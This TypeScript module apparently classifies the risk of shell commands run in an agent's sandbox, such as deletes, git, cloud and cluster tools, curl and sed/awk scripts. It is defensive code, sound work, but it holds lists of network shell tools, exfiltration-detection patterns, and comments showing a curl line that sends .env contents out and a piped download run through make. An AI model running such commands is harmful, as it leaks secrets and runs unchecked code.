// What individual programs do, by name and arguments, once the shell has been taken apart:
// deletes, git, publishing, cluster and cloud tools, network tools, permissions, system
// administration, and options that make an ordinary tool run another program. Programs that
// run other code are in code-runners.ts, databases in databases.ts, package managers in
// package-managers.ts; every program's path operands are checked by path-operands.ts.
import { CODE_RUNNERS } from './code-runners.ts';
import { DATABASES, DB_WIPE_TASKS } from './databases.ts';
import { gitRisk } from './git-risk.ts';
import { hasFlag, only, operands, values, type Judge, type ProgramContext, type ProgramEffect } from './judge.ts';
import { PACKAGE_MANAGER_JUDGES } from './package-managers.ts';
import { pathFindings, READERS, readsOnly, WRITERS } from './path-operands.ts';
import { sensitiveWrite } from './paths.ts';
import { high, low, medium, type Finding } from './risk.ts';
import type { Word } from './shell-parse.ts';

export type { ProgramContext, ProgramEffect } from './judge.ts';

const PRIVILEGE = new Set(['sudo', 'doas', 'su', 'pkexec', 'chroot', 'runuser', 'setpriv', 'nsenter', 'unshare', 'capsh', 'setcap', 'bwrap', 'firejail']);

const SYSTEM = new Set([
  'shutdown', 'reboot', 'halt', 'poweroff', 'init', 'telinit', 'systemctl', 'service', 'mount', 'umount', 'fdisk', 'parted', 'sfdisk', 'wipefs',
  'mkswap', 'swapon', 'swapoff', 'iptables', 'ip6tables', 'nft', 'ufw', 'ip', 'ifconfig', 'route', 'useradd', 'userdel', 'usermod', 'groupadd', 'groupdel', 'passwd',
  'chpasswd', 'visudo', 'crontab', 'at', 'batch', 'modprobe', 'insmod', 'rmmod', 'sysctl', 'losetup', 'cryptsetup', 'lvremove', 'vgremove', 'pvremove',
  'apt', 'apt-get', 'dpkg', 'yum', 'dnf', 'apk', 'pacman', 'zypper', 'snap', 'brew', 'killall5',
]);

const REMOTE = new Set(['ssh', 'scp', 'sftp', 'ftp', 'lftp', 'telnet', 'nc', 'ncat', 'netcat', 'socat', 'rsh', 'rlogin', 'mosh', 'sshpass', 'smbclient']);

const CLOUD = new Set(['aws', 'gcloud', 'gsutil', 'az', 'doctl', 'flyctl', 'fly', 'heroku', 'vercel', 'netlify', 'firebase', 'wrangler', 'railway', 'pulumi', 'serverless', 'sls', 'eb', 'cdk', 'ansible', 'ansible-playbook', 'vault']);

const DOCKER_READS = new Set(['ps', 'images', 'inspect', 'logs', 'version', 'info', 'history', 'top', 'stats', 'port', 'diff', 'search', 'events', 'ls', 'config', 'context']);

const KUBECTL_READS = new Set(['get', 'describe', 'logs', 'explain', 'version', 'api-resources', 'api-versions', 'cluster-info', 'top', 'diff', 'auth', 'config', 'events', 'wait']);

const HELM_READS = new Set(['list', 'ls', 'status', 'get', 'show', 'inspect', 'template', 'version', 'search', 'lint', 'history', 'env', 'verify']);

const TERRAFORM_READS = new Set(['plan', 'validate', 'fmt', 'show', 'output', 'version', 'providers', 'graph', 'init', 'get', 'console', 'test', 'metadata', 'modules']);

const GH_READS = new Set(['status', 'list', 'view', 'diff', 'checks', 'search', 'browse', 'help', 'version', 'completion']);

const LOCAL_URL = /^(https?:\/\/)?(localhost|127\.\d+\.\d+\.\d+|\[::1\]|0\.0\.0\.0)([:/]|$)/;

/** Options that make an ordinary tool run another program. */
const RUNS_OTHER_PROGRAM: Record<string, RegExp> = {
  tar: /^(--to-command|--checkpoint-action|--use-compress-program|--rsh-command|--info-script|--new-volume-script)|^-[A-Za-z]*[IF]/,
  zip: /^(-TT|--unzip-command)/, rsync: /^(-e$|--rsh|--rsync-path)|^-[A-Za-z]*e$/, sort: /^--compress-program/, split: /^--filter/,
  less: /^(-\+|\+)/, man: /^(-P|--pager|-H|--html)/,
};

export function judgeProgram(name: string, args: Word[], ctx: ProgramContext): ProgramEffect {
  const runsOther = RUNS_OTHER_PROGRAM[name];
  const via = runsOther ? args.find((a) => a.value === null || runsOther.test(a.value)) : undefined;
  if (via) return { findings: [high(`${name} ${via.value ?? via.source} makes it run another program`), ...pathFindings(name, args, ctx)] };
  const special = SPECIAL[name];
  const effect = special ? special(name, args, ctx) : generic(name, args);
  return { ...effect, findings: [...effect.findings, ...pipedInstructions(name, args, ctx), ...pathFindings(name, args, ctx)] };
}

/** The input stream named as a file: `curl … | make -f /dev/stdin` runs whatever was downloaded. */
const STDIN_AS_FILE = /^(\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0)$/;

function pipedInstructions(name: string, args: Word[], ctx: ProgramContext): Finding[] {
  if (ctx.stdin !== 'pipe' || readsOnly(name, args)) return [];
  const named = args.some((a, i) => a.value !== null && (STDIN_AS_FILE.test(a.value) || (a.value === '-' && /^(-f|--file|--makefile)$/.test(args[i - 1]?.value ?? ''))));
  return named ? [high(`${name} reads instructions from the pipe (such as a download), which cannot be checked`)] : [];
}

function generic(name: string, args: Word[]): ProgramEffect {
  if (READERS.has(name)) return only(low(`${name} only reads`));
  if (PRIVILEGE.has(name)) return only(high(`${name} runs a command with other privileges or outside the sandbox's view`));
  if (SYSTEM.has(name)) return only(high(`${name} changes the machine, not the workspace`));
  if (REMOTE.has(name)) return only(high(`${name} connects to another machine`));
  if (CLOUD.has(name)) return only(high(`${name} acts on cloud resources with the user's credentials`));
  if (args.some((a) => a.value !== null && DB_WIPE_TASKS.test(a.value))) return only(high(`${name} ${args.find((a) => a.value && DB_WIPE_TASKS.test(a.value))!.value} wipes database data or schema`));
  if (name.startsWith('mkfs')) return only(high('mkfs formats a file system'));
  if (WRITERS.has(name)) return only(medium(`${name} changes files in the workspace`));
  return only(medium(`runs ${name}`));
}

function rm(name: string, args: Word[], ctx: ProgramContext): ProgramEffect {
  const recursive = hasFlag(args, ['--recursive'], 'rR');
  const force = hasFlag(args, ['--force'], 'f');
  const targets = operands(args);
  const out: Finding[] = [];
  for (const t of targets) {
    if (t.value === null) { out.push(high(`${name} deletes ${t.source}, a path computed at run time`)); continue; }
    if (t.glob) { out.push(high(`${name} deletes every file matching ${t.value}`)); continue; }
    const s = sensitiveWrite(t.value, ctx.cwd);
    if (s?.kind === 'git') { out.push(high(`deleting ${t.value} destroys the repository's history`)); continue; }
    if (s) { out.push(high(`${name} deletes ${t.value}, ${s.reason}`)); continue; }
    const rel = t.value.replace(/\/+$/, '');
    if (rel === '.' || rel === '' || rel === '/workspace' || rel === '..') out.push(high(`${name} ${t.value} deletes the whole workspace`));
  }
  if (name === 'shred' || name === 'srm' || name === 'wipe') out.push(high(`${name} destroys file contents beyond recovery`));
  if (recursive) out.push(high(`${name} -r deletes directories recursively`));
  if (!targets.length && !out.length) return only(low(`${name} with nothing to delete`));
  if (force && !out.length) return only(medium(`${name} -f deletes ${targets.map((t) => t.value).join(' ')}`));
  return { findings: out.length ? out : [medium(`deletes ${targets.map((t) => t.value).join(' ')}`)] };
}

function gitProgram(_name: string, args: Word[]): ProgramEffect {
  return only(gitRisk(values(args)));
}

function mutatingUnlessRead(reads: Set<string>, what: string): Judge {
  return (name, args) => {
    const sub = operands(args)[0]?.value;
    if (sub && reads.has(sub)) return only(low(`${name} ${sub} only reads`));
    return only(high(`${name} ${sub ?? ''} ${what}`.replace(/\s+/g, ' ')));
  };
}

function gh(_name: string, args: Word[]): ProgramEffect {
  const ops = operands(args).map((o) => o.value);
  if (ops.length === 0 || ops.some((o) => o !== null && GH_READS.has(o)) && !ops.includes('release') && !ops.includes('secret')) return only(medium('gh reads from GitHub'));
  return only(high(`gh ${ops.slice(0, 2).join(' ')} acts on GitHub as the user`));
}

/** curl/wget options that send a body or a file. */
const SENDS_DATA = /^(-d|--data|--data-binary|--data-raw|--data-urlencode|--json|-F|--form|--form-string|-T|--upload-file|--post-data|--post-file|--body-data|--body-file)(=|$)/;
/** Options whose (run-time) value is not where the request goes or what it sends. */
const HARMLESS_VALUE = /^(-H|--header|-o|--output|-A|--user-agent|-u|--user|-m|--max-time|--connect-timeout|-w|--write-out|-O|--output-document|--retry|-e|--referer)$/;

/**
 * Fetching is medium; sending data or files to another machine, or a request whose address or
 * body is computed at run time (`curl "https://x/?k=$(cat .env)"`), is high: it can carry the
 * workspace's secrets out.
 */
function curl(name: string, args: Word[]): ProgramEffect {
  const urls = args.filter((a) => a.value !== null && (/^[a-z]+:\/\//i.test(a.value) || LOCAL_URL.test(a.value)));
  const local = urls.length > 0 && urls.every((u) => LOCAL_URL.test(u.value!.replace(/^[a-z]+:\/\//i, '')));
  if (local) return only(medium(`${name} talks to a local server`));
  const sends = args.find((a) => a.value !== null && (SENDS_DATA.test(a.value) || /^-X$|^--request$/.test(a.value)));
  const method = args.find((a, i) => /^(-X|--request|--method)$/.test(args[i - 1]?.value ?? '') && a.value !== null && !/^(GET|HEAD|OPTIONS)$/i.test(a.value));
  if (sends && (sends.value === '-X' || sends.value === '--request' ? method : true)) return only(high(`${name} ${sends.value} sends data to another machine`));
  const computed = args.find((a, i) => a.value === null && !HARMLESS_VALUE.test(args[i - 1]?.value ?? ''));
  if (computed) return only(high(`${name} is given ${computed.source}, computed at run time, which could carry data out`));
  return only(medium(`${name} fetches from the network`));
}

/** Name lookups and pings carry data out in the name they ask for. */
function lookup(name: string, args: Word[]): ProgramEffect {
  const computed = args.find((a) => a.value === null);
  return only(computed ? high(`${name} looks up ${computed.source}, computed at run time, which could carry data out`) : low(`${name} queries the network`));
}

function chmod(name: string, args: Word[]): ProgramEffect {
  if (hasFlag(args, ['--recursive'], 'R')) return only(high(`${name} -R changes permissions on a whole tree`));
  if (name !== 'chmod') return only(high(`${name} changes file ownership`));
  const mode = operands(args)[0]?.value ?? '';
  if (/s|^[2-7]\d{3}$/.test(mode) && !/^[0-7]{3}$/.test(mode)) return only(high('chmod sets a setuid/setgid bit'));
  return only(medium(`chmod ${mode}`));
}

/** The scripts given to sed/awk with -e (also clustered, -ne) or --expression=/--source=. */
function inlinePrograms(args: Word[], longs: string[]): (string | null)[] {
  const out: (string | null)[] = [];
  args.forEach((a, i) => {
    const prev = args[i - 1]?.value ?? '';
    if (/^-[a-zA-Z]*e$/.test(prev) || longs.includes(prev)) out.push(a.value);
    else if (a.value !== null && longs.some((l) => a.value!.startsWith(`${l}=`))) out.push(a.value.slice(a.value.indexOf('=') + 1));
  });
  return out;
}

/** sed's e command and s///e flag run commands; w and s///w write files. */
const SED_RUNS_OR_WRITES = [
  /(^|[;\n{}]|[0-9$/])\s*[eWw](\s|;|$)/,
  // A backslash only ever matches the escape branch, so the pattern cannot backtrack exponentially.
  /s([^\\\n])(?:\\.|(?!\1)[^\\])*\1(?:\\.|(?!\1)[^\\])*\1[gpiImM0-9]*[ewW]/,
];

/** Programs longer than this (sed, awk, SQL text) are not scanned: they are high. */
export const MAX_INLINE_PROGRAM_CHARS = 20_000;

function sed(name: string, args: Word[]): ProgramEffect {
  const inPlace = hasFlag(args, ['--in-place'], 'i');
  if (args.some((a) => a.value === '-f' || (a.value?.startsWith('--file') ?? false))) return only(medium(`${name} runs a script file from the workspace`));
  const scripts = inlinePrograms(args, ['--expression']);
  if (!scripts.length) scripts.push(operands(args)[0]?.value ?? '');
  if (scripts.some((x) => x === null)) return only(high(`${name} runs a script computed at run time`));
  if (scripts.some((x) => x!.length > MAX_INLINE_PROGRAM_CHARS)) return only(high(`${name} script is too long to check`));
  if (scripts.some((x) => SED_RUNS_OR_WRITES.some((r) => r.test(x!)))) return only(high(`${name} script runs commands or writes files`));
  return only(inPlace ? medium(`${name} -i edits files in place`) : low(`${name} only prints`));
}

function awk(name: string, args: Word[]): ProgramEffect {
  if (args.some((a) => a.value === '-f' || (a.value?.startsWith('--file') ?? false))) return only(medium(`${name} runs a program file from the workspace`));
  const progs = inlinePrograms(args, ['--source']);
  if (!progs.length) progs.push(operands(args.filter((_, i) => !['-v', '-F', '--assign', '--field-separator'].includes(args[i - 1]?.value ?? '')))[0]?.value ?? '');
  if (progs.some((x) => x === null)) return only(high(`${name} runs a program computed at run time`));
  if (progs.some((x) => x!.length > MAX_INLINE_PROGRAM_CHARS)) return only(high(`${name} program is too long to check`));
  // system(), pipes to or from commands, output redirection, and gawk's indirect calls (@f()).
  if (progs.some((x) => /\bsystem\s*\(|\|\s*(getline|")|print[^;}]*[>|]|@\s*[A-Za-z_]|@load/.test(x!))) return only(high(`${name} program runs commands or writes files`));
  return only(low(`${name} only prints`));
}

function shopt(_name: string, args: Word[]): ProgramEffect {
  if (hasFlag(args, [], 's') && args.some((a) => a.value === 'dotglob' || a.value === null)) return only(high('shopt -s dotglob makes globs match hidden files such as .git'));
  return only(low('shopt sets shell options'));
}

function dd(_name: string, args: Word[], ctx: ProgramContext): ProgramEffect {
  if (args.some((a) => a.value === null)) return only(high('dd is given an operand computed at run time'));
  const of = args.find((a) => a.value?.startsWith('of='));
  if (!of) return only(low('dd writes to stdout'));
  const s = sensitiveWrite(of.value!.slice(3), ctx.cwd);
  return only(s ? high(`dd writes ${s.path}, ${s.reason}`) : medium(`dd writes ${of.value!.slice(3)}`));
}

function rsync(_name: string, args: Word[]): ProgramEffect {
  if (operands(args).some((o) => o.value !== null && /^[^/]*:/.test(o.value) && !o.value.startsWith('./'))) return only(high('rsync copies to or from another machine'));
  if (hasFlag(args, ['--delete', '--delete-before', '--delete-after', '--delete-during', '--remove-source-files'], '')) return only(high('rsync --delete deletes files at the destination'));
  return only(medium('rsync copies files'));
}

function make(_name: string, args: Word[]): ProgramEffect {
  const targets = operands(args).map((o) => o.value);
  if (targets.some((t) => t !== null && /^(deploy|publish|release|upload|push|distclean|clean-all|nuke|destroy)$/.test(t))) return only(high(`make ${targets.join(' ')} deploys, publishes or wipes`));
  return only(medium(targets.length ? `make ${targets.join(' ')} runs the project's build` : 'make runs the project\'s default build'));
}

function publisher(what: string, subs: RegExp): Judge {
  return (name, args) => {
    // Anywhere among the operands: an option's value can stand before the subcommand.
    const hit = operands(args).find((o) => o.value !== null && subs.test(o.value));
    return only(hit ? high(`${name} ${hit.value} ${what}`) : medium(`${name} ${operands(args)[0]?.value ?? ''}`.trim()));
  };
}

function sort(name: string, args: Word[]): ProgramEffect {
  return only(hasFlag(args, ['--output'], 'o') ? medium(`${name} -o writes a file`) : low(`${name} only prints`));
}

function kill(name: string, args: Word[]): ProgramEffect {
  if (args.some((a) => a.value === '-1' || a.value === '1')) return only(high(`${name} -1 kills every process`));
  return only(medium(`${name} stops processes`));
}

const SPECIAL: Record<string, Judge> = {
  ...CODE_RUNNERS, ...DATABASES, ...PACKAGE_MANAGER_JUDGES,
  rm, unlink: rm, rmdir: (n, a, c) => ({ findings: rm(n, a, c).findings.map((f) => (f.risk === 'medium' ? medium(`removes the empty directory ${operands(a).map((o) => o.value).join(' ')}`) : f)) }),
  shred: rm, srm: rm, wipe: rm,
  rimraf: (n, a) => only(high(`${n} deletes ${operands(a).map((o) => o.value ?? o.source).join(' ')} recursively`)), 'del-cli': (n) => only(high(`${n} deletes files by glob`)),
  git: gitProgram, gh, curl, wget: curl, http: curl, xh: curl,
  nslookup: lookup, dig: lookup, host: lookup, ping: lookup, ping6: lookup, traceroute: lookup, getent: lookup,
  chmod, chown: chmod, chgrp: chmod, sed, gsed: sed, awk, gawk: awk, mawk: awk, nawk: awk, dd, rsync, make, gmake: make, sort, shopt,
  hash: (_n, a) => only(hasFlag(a, [], 'p') ? high('hash -p makes a command name run another file') : low('hash lists remembered commands')),
  enable: (_n, a) => only(hasFlag(a, [], 'f') ? high('enable -f loads a shared library into the shell') : medium('enable turns shell builtins on or off')),
  kill, pkill: kill, killall: kill,
  docker: mutatingUnlessRead(DOCKER_READS, 'changes containers, images or volumes'), podman: mutatingUnlessRead(DOCKER_READS, 'changes containers, images or volumes'),
  'docker-compose': mutatingUnlessRead(new Set(['ps', 'logs', 'config', 'images', 'top', 'version', 'ls']), 'changes containers'),
  kubectl: mutatingUnlessRead(KUBECTL_READS, 'changes the cluster'), oc: mutatingUnlessRead(KUBECTL_READS, 'changes the cluster'),
  helm: mutatingUnlessRead(HELM_READS, 'changes releases in the cluster'),
  terraform: mutatingUnlessRead(TERRAFORM_READS, 'changes real infrastructure'), tofu: mutatingUnlessRead(TERRAFORM_READS, 'changes real infrastructure'),
  cargo: publisher('publishes or changes a crate on the registry', /^(publish|yank|owner|login)$/),
  twine: publisher('publishes a package', /^(upload|register)$/),
  poetry: publisher('publishes a package', /^publish$/), flit: publisher('publishes a package', /^publish$/), hatch: publisher('publishes a package', /^publish$/),
  gem: publisher('publishes or removes a gem', /^(push|yank|owner)$/), mvn: publisher('deploys an artifact', /^(deploy|release:perform)$/),
  gradle: publisher('publishes an artifact', /^publish/), dotnet: publisher('publishes a package', /^push$/),
};
